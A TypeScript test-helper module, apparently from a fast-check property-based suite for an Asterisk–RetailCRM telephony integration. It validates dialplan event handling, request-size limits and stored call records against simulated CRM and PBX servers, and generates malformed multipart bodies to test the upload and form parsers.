  const outcome: EventOutcome = { expected: OK, params, warnings: [], keys: [] };
  if (type === "upload") return outcome;
  const warn = (name: string, action: "cleaned" | "ignored", message: string) => {
    outcome.warnings.push(message);
    outcome.keys.push(`${name}:${action}`);
  };
  for (const name of OPTIONAL_EVENT_FIELDS) {
    const value = get(p, name);
    if (value === undefined) continue;
    const error = optionalEventError(name, value);
    if (!error) {
      params[name] = value;
      continue;
    }
    const cleaned = CLEANED[name]?.(value);
    if (cleaned && !optionalEventError(name, cleaned)) {
      params[name] = cleaned;
      warn(name, "cleaned", `${error}; used ${JSON.stringify(cleaned)} instead`);
    } else warn(name, "ignored", `${error}; the event was stored without it`);
  }
  if (!trimmed(get(params, "phone"))) return refused(refuse(400, `parameter phone is required for type=${type}`));
  if (type !== "in" && codesOf(trimmed(get(params, "code"))).length > 1) {
    delete params.code;
    warn(
      "code",
      "ignored",
      `parameter code must be a single extension for type=${type}; the event was stored without it`,
    );
  }
  return outcome;
}

/** Every parameter body is read within PARAMS_MAX_BYTES, before anything else is looked at. */
export function withinBodyLimit(request: Encoded, expected: Expected): Expected {
  return request.formBytes > PARAMS_MAX_BYTES
    ? refuse(413, `the request body is larger than ${PARAMS_MAX_BYTES} bytes`)
    : expected;
}

export const EVENT_KEYS = [
  "clientId",
  "type",
  "uniqueid",
  "phone",
  "code",
  "status",
  "direct",
  "date",
  "DATE",
  "hold",
  "duration",
  "path",
] as const;
export const FRESH = "@fresh-uniqueid@";
let uniqueSeq = 0;
export const freshUniqueid = () => `${1_800_000_000 + (Math.floor(Date.now() / 1000) % 100_000)}.${++uniqueSeq}`;

/** A good dialplan event of each type, as event.sh and the guide's macros send it. */
export const goodEvent: fc.Arbitrary<Pairs> = fc.constantFrom("in", "out", "hangup").chain((type) =>
  fc
    .record(
      {
        phone: dialplanPhone,
        code: type === "in" ? fc.array(extension, { maxLength: 4 }).map((c) => c.join(", ")) : extension,
        status: dialStatus,
        direct: fc.constantFrom("in", "out"),
        date: dateTime,
        dateKey: fc.constantFrom("date", "DATE"),
        hold: seconds,
        duration: seconds,
        path: recordUrl,
      },
      { requiredKeys: ["phone", "dateKey"] },
    )
    .map((e): Pairs => {
      const pairs: [string, string][] = [
        ["clientId", "@clientId@"],
        ["type", type],
        ["uniqueid", FRESH],
        ["phone", e.phone],
      ];
      if (e.code !== undefined) pairs.push(["code", e.code]);
      if (type === "hangup") {
        for (const key of ["status", "direct", "hold", "duration", "path"] as const)
          if (e[key] !== undefined) pairs.push([key, e[key]]);
        if (e.date !== undefined) pairs.push([e.dateKey, e.date]);
      }
      return pairs;
    }),
);

/** Ends a call of the main account as event.sh does before its upload: type=upload takes recordings of known calls only. */
export async function endCall(uniqueid: string): Promise<void> {
  const hangup = new URLSearchParams({ clientId: main.clientId, type: "hangup", uniqueid, phone: "+79001234567" });
  expect((await send(`/api/event?${hangup}`)).status).toBe(200);
}

export function withIdentity(pairs: Pairs): Pairs {
  return pairs.map(([k, v]) => [k, v === "@clientId@" ? main.clientId : v === FRESH ? freshUniqueid() : v] as const);
}

export async function expectStoredEvent(
  p: Params,
  before: Snapshot,
  existed: { event: boolean; call: boolean },
  keys: string[],
) {
  const after = await snapshot();
  const type = p.type as "in" | "out" | "hangup";
  const uniqueid = p.uniqueid!.trim();
  if (existed.event) {
    expect(after).toEqual(before);
    return;
  }
  expect(after).toEqual({
    ...before,
    events: before.events + 1,
    calls: before.calls + (existed.call ? 0 : 1),
    deliveries: before.deliveries + (type === "hangup" ? 2 : 1),
  });
  const call = await db().call.findUniqueOrThrow({ where: { accountId_uniqueid: { accountId: main.id, uniqueid } } });
  expect(call.phone).toBe(p.phone!.trim());
  expect(call.inputWarnings.slice(call.inputWarnings.length - keys.length)).toEqual(keys);
  const code = codesOf(trimmed(get(p, "code")))[0];
  if (type !== "in" && code) expect(call.extension).toBe(code);
  if (type === "hangup") {
    expect(call.result).toBe(mapStatus(trimmed(get(p, "status")) ?? "").upload);
    expect(call.talkSeconds).toBe(has(p, "duration") ? Number(p.duration) : null);
    expect(call.waitSeconds).toBe(has(p, "hold") ? Number(p.hold) : null);
    // The call's start: the hangup's date minus its wait and talk, not before 1970.
    const date = trimmed(get(p, "date"));
    const waited = (call.talkSeconds ?? 0) + (call.waitSeconds ?? 0);
    if (date)
      expect(call.startedAt?.getTime()).toBe(
        Math.max(0, new Date(`${date.replace(" ", "T")}Z`).getTime() - waited * 1000),
      );
  }
}

/** Sends a dialplan event and holds the answer and the database to the contract. */
export async function checkEvent(pairs: Pairs, transport: Transport, rawQuery = "") {
  const request = encode("/api/event", pairs, transport, rawQuery);
  const p = eventParams(request.params);
  fc.pre(p.type !== "upload" && !pairs.some(([k, v]) => k === "type" && v === "upload"));
  const outcome = eventContract(request.params);
  const expected = withinBodyLimit(request, outcome.expected);
  const uniqueid = trimmed(get(p, "uniqueid"));
  const type = get(p, "type");
  const [event, call, before] = await Promise.all([
    expected.ok && uniqueid && type
      ? db().callEvent.findUnique({
          where: {
            accountId_uniqueid_type_ring: { accountId: main.id, uniqueid, type: type.toUpperCase() as "IN", ring: "" },
          },
        })
      : null,
    expected.ok && uniqueid
      ? db().call.findUnique({ where: { accountId_uniqueid: { accountId: main.id, uniqueid } } })
      : null,
    snapshot(),
  ]);
  const existed = { event: !!event, call: !!call };
  const reply = await send(request.url, request.init);
  if (!expected.ok) {
    expectRefusal(reply, expected, { pairs: pairs.map(([k, v]) => [k, v.slice(0, 200)]), transport, rawQuery });
    expect(await snapshot()).toEqual(before);
    return;
  }
  expect({ status: reply.status, body: jsonOf(reply) }, JSON.stringify({ pairs, transport }).slice(0, 2000)).toEqual({
    status: 200,
    body: {
      success: true,
      duplicate: existed.event,
      ...(outcome.warnings.length ? { warnings: outcome.warnings } : {}),
    },
  });
  await expectStoredEvent(outcome.params, before, existed, existed.event ? [] : outcome.keys);
}

// ---------------------------------------------------------------------------------------------

/** The servers, simulators and accounts every hostile-input file runs against (its own database). */
export function setUpHostileWorld(): void {
  beforeAll(async () => {
    expect(env().RECORDINGS_DIR).toBe(RECORDINGS_DIR);
    expect(env().RECORDING_MAX_BYTES).toBe(MAX_BYTES);
    crm = await createRetailCrmSim({ rateLimit: false });
    seedDemo(crm);
    crm2 = await createRetailCrmSim({ rateLimit: false });
    seedDemo(crm2);
    pbx = await createAsteriskSim({ tcpPort: null, httpPort: 0, users: [ami] });
    app = await serveRoutes({
      "/api/manager": managerRoute,
      "/api/event": eventRoute,
      "/api/crm/make-call": makeCallRoute,
      "/api/crm/user-status": userStatusRoute,
      "/api/crm/activity": activityRoute,
      "/api/crm/config": configRoute,
      "/api/crm/register": registerRoute,
      "/account": accountRoute,
      "/recordings/[id]/[sig]": recordingRoute,
      "/data/event.sh": eventShRoute,
    });
    const account = await connectAccount({ crmUrl: crm.url, apiKey: DEMO.apiKey });
    main = { id: account.id, clientId: account.clientId };
    await mapExtensions(account.id, { 3: "101", 4: "102" });
    await db().asteriskSettings.update({
      where: { accountId: account.id },
      data: {
        amiTransport: "HTTP",
        amiHost: "127.0.0.1",
        amiPort: pbx.httpPort!,
        amiLogin: ami.username,
        amiSecretEnc: encryptSecret(ami.secret),
        channelTemplate: "PJSIP",
        outgoingContext: "from-internal",
        // The PBX keeps UTC: a date it reports is the moment itself (docs/dialplan-api.md, «Время звонка»).
        pbxTimeZone: "UTC",
      },
    });
    // Connected as an admin connects it: its CRM keeps the module whose state the callbacks report.
    switchedCrm = await createRetailCrmSim({ rateLimit: false });
    seedDemo(switchedCrm);
    const other = await connectAccount({ crmUrl: switchedCrm.url, apiKey: DEMO.apiKey });
    switched = { id: other.id, clientId: other.clientId, crmUrl: other.crmUrl, moduleCode: other.moduleCode };
    // Its CRM is nowhere (a closed port): a userId it does not know is looked for there in vain.
    const third = await createTestAccount({ crmUrl: "http://127.0.0.1:9/" });
    await db().crmUser.createMany({
      data: Array.from({ length: STATUS_USERS }, (_, i) => ({ accountId: third.id, crmUserId: i + 1 })),
    });
    statuses = { id: third.id, clientId: third.clientId };
  });

  afterAll(async () => {
    await closeAmiSessions();
    await app?.close();
    await crm?.close();
    await crm2?.close();
    await switchedCrm?.close();
    await pbx?.close();
    await rm(RECORDINGS_DIR, { recursive: true, force: true });
  });
}

/**
 * Each property stops after 8 s: on a loaded machine with fewer runs (still a pass), and after a
 * failure with the smallest counterexample found by then (shrinking replays requests).
 */
export const runs = (numRuns: number) => ({ numRuns, interruptAfterTimeLimit: 8_000 });

/** Whether the platform's form parser (the one the routes use) refuses a body. */
export async function unparseable(contentType: string, body: Buffer): Promise<boolean> {
  return new Response(new Uint8Array(body), { headers: { "content-type": contentType } }).formData().then(
    () => false,
    () => true,
  );
}

/**
 * What the upload's streaming parser (busboy, as the route uses it) makes of a multipart body: a
 * body it refuses before a file begins is malformed; otherwise it holds a file or none.
 */
export function uploadVerdict(contentType: string, body: Buffer): Promise<"malformed" | "no-file" | "file"> {
  return new Promise((resolve) => {
    let parser: busboy.Busboy;
    try {
      parser = busboy({
        headers: { "content-type": contentType },
        limits: { files: 1, fields: 20, fieldSize: 4096, parts: 30, headerPairs: 20 },
      });
    } catch {
      resolve("malformed");
      return;
    }
    let file = false;
    parser.on("file", (_name, stream) => {
      file = true;
      stream.resume();
    });
    parser.on("error", () => resolve(file ? "file" : "malformed"));
    parser.on("close", () => resolve(file ? "file" : "no-file"));
    parser.end(body);
  });
}

/** Bodies that say multipart/form-data and are not (see unparseable). */
export const malformedMultipart = fc.record({
  contentType: fc.constantFrom(
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=abc",
    "MULTIPART/FORM-DATA; boundary=zz",
    'multipart/form-data; boundary="unterminated',
  ),
  body: fc.oneof(
    fc
      .constantFrom(
        "",
        "garbage",
        "--abc\r\nContent-Disposition: form-data\r\n\r\nx",
        "--abc\r\n\r\n",
        "--zz--",
        '--abc\r\nContent-Disposition: form-data; name="a"\r\n\r\nno end',
      )
      .map((s) => Buffer.from(s)),
    fc.uint8Array({ minLength: 1, maxLength: 200 }).map((b) => Buffer.from(b)),
  ),
});
